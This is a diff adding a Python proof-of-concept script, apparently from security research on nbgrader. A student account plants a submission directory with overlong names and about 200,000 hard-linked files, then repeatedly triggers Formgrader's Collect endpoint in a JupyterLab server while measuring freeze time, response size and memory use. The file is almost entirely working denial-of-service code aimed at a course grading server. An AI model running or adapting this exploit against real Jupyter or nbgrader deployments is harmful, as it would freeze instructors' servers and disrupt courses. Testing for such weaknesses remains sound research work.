@@ -1,0 +1,59 @@
+"""a10: a09 through Formgrader's Collect button (one press): size of the JSON answer the TA's browser gets, time, the
+server's memory. (Built from a10:) a06 through Formgrader's Collect button (POST /formgrader/api/assignment/<a>/collect, which runs SafeCollect
+with update=True inside the TA's Jupyter server, as `make lab` starts it). mallory's inbound folder holds an honest
+notebook and a 1 MB timestamp.txt of '1.'; the TA presses Collect, a late hand-in of zoe39u's arrives, the TA presses
+Collect again. Meanwhile a client asks the server for /api/status every second: how long is the server frozen?"""
+from lib import *
+import threading, urllib.request
+A = "ps1_memory"; SIZE = int(os.environ.get("SIZE", "1000000")); PORT = 18948; N = int(os.environ.get("N", "200000"))
+add_accounts()
+d = make_course("a10")
+X, inbound = make_exchange("a10")
+cfg = "/tmp/attack39-user-a10-jcfg"; os.makedirs(cfg, exist_ok=True)
+open(f"{cfg}/nbgrader_config.py", "w").write(f"c = get_config()\nc.Exchange.root = {X!r}\n")
+home = "/tmp/attack39-user-a10-home"; os.makedirs(home, exist_ok=True)
+for p in (d, cfg, home): chown(p)
+os.chmod(d, 0o700)
+lab = None
+try:
+    honest_inbound(inbound, A)
+    tmp = "/tmp/attack39-user-a10-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
+    open("/tmp/attack39-user-a10-ts", "w").write("1." * (SIZE // 2)); os.chmod("/tmp/attack39-user-a10-ts", 0o644)
+    as_student(2392, f"""
+import os, shutil
+p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+' + 'r' * 180; os.mkdir(p); os.chmod(p, 0o755)
+shutil.copy('{tmp}', p + '/{A}.ipynb')
+os.mkdir(p + '/' + 'd' * 250)
+q = p + '/' + 'd' * 250 + '/'
+for i in range({N}):
+    name = q + ('%08d' % i) + 'x' * 230 + '.pyc'
+    if i % 60000 == 0: src = name; open(src, 'w').close(); continue
+    os.link(src, name)
+""")
+    env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=home, JUPYTER_CONFIG_DIR=cfg)
+    lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
+                            "--notebook-dir=.", "--no-browser", f"--port={PORT}", "--ServerApp.token=tok39"],
+                           cwd=d, env=env, stdout=open("/tmp/attack39-user-a10-lab.log", "w"), stderr=subprocess.STDOUT)
+    for _ in range(90):
+        try:
+            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok39", timeout=2); break
+        except Exception:
+            time.sleep(1)
+    def press():
+        req = urllib.request.Request(f"http://127.0.0.1:{PORT}/formgrader/api/assignment/{A}/collect", data=b"{}", method="POST",
+                                     headers={"Authorization": "token tok39", "Content-Type": "application/json"})
+        t = time.time(); out = urllib.request.urlopen(req, timeout=3000).read().decode()
+        return time.time() - t, out
+    import re
+    pid = int(subprocess.run(["pgrep", "-f", f"port={PORT}"], capture_output=True, text=True).stdout.split()[0])
+    t, out = press()
+    hwm = re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1)
+    print(f"Collect button: {t:.1f}s, JSON answer {len(out):,} bytes, {out.count('not collected'):,} 'not collected' lines; server peak RSS {int(hwm)//1024} MiB")
+    os.system(f"ls {d}/submitted/")
+finally:
+    if lab: lab.terminate(); lab.wait(20)
+    shutil.rmtree(d, ignore_errors=True); shutil.rmtree(X, ignore_errors=True)
+    for p in (cfg, home): shutil.rmtree(p, ignore_errors=True)
+    for f in ("/tmp/attack39-user-a10-m.ipynb", "/tmp/attack39-user-a10-ts", "/tmp/attack39-user-a10-lab.log"):
+        if os.path.exists(f): os.unlink(f)
+    del_accounts()
